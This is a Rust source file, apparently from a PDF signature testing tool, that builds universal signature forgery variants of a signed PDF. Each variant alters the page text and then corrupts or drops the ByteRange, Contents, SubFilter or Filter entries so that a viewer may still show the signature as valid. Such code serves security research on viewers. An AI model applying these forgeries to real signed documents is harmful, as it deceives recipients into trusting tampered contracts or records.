//! Universal signature forgery: the signature is made unusable in the hope that a viewer still shows it as valid.

use super::Attack;
use super::update::{in_place, last};

/// Every form over a signed [`crate::pdfs::simple`], whose text is changed as well.
pub fn universal_forgery(signed: &[u8]) -> Vec<Attack> {
    let changed = in_place(signed, b"(Page 1)", b"(Page 9)");
    let range = part(&changed, b"/ByteRange [", b"]");
    let contents = part(&changed, b"/Contents <", b">");
    let edit = |name: &str, from: &[u8], to: &str| Attack::new(name, in_place(&changed, from, to.as_bytes()));
    let byte_range = |values: &str| format!("/ByteRange [{values}");
    let mut forms = vec![
        edit("no ByteRange", &range, ""),
        edit("ByteRange null", &range, "/ByteRange null"),
        edit("ByteRange renamed", b"/ByteRange [", "/ByteRangX ["),
        edit("ByteRange empty", &range, "/ByteRange []"),
        edit("ByteRange of zeros", &range, &(byte_range("0 0 0 0") + "]")),
        edit("ByteRange of one pair", &range, &(byte_range("0 10") + "]")),
        edit("ByteRange negative", &range, &(byte_range("0 -1 -1 0") + "]")),
        edit(
            "ByteRange beyond the file",
            &range,
            &(byte_range("0 10 99999999 10") + "]"),
        ),
        edit("ByteRange not numbers", &range, &(byte_range("/A /B /C /D") + "]")),
        edit("no Contents", &contents, ""),
        edit("Contents null", &contents, "/Contents null"),
        edit("Contents empty", &contents, "/Contents <>"),
        edit("Contents a zero byte", &contents, "/Contents <00>"),
        edit("Contents a boolean", &contents, "/Contents true"),
        edit(
            "SubFilter unknown",
            b"/SubFilter/ETSI.CAdES.detached",
            "/SubFilter/None",
        ),
        edit("Filter unknown", b"/Filter/Adobe.PPKLite", "/Filter/X"),
    ];
    let zeros = vec![b'0'; contents.len() - b"/Contents <>".len()];
    let zeros = [b"/Contents <".as_slice(), &zeros, b">"].concat();
    forms.push(Attack::new("Contents of zeros", in_place(&changed, &contents, &zeros)));
    forms
}

/// The bytes from a beginning to the next end, both included.
fn part(bytes: &[u8], beginning: &[u8], end: &[u8]) -> Vec<u8> {
    let start = last(bytes, beginning);
    let length = bytes[start..].windows(end.len()).position(|window| window == end);
    bytes[start..start + length.expect("an end") + end.len()].to_vec()
}
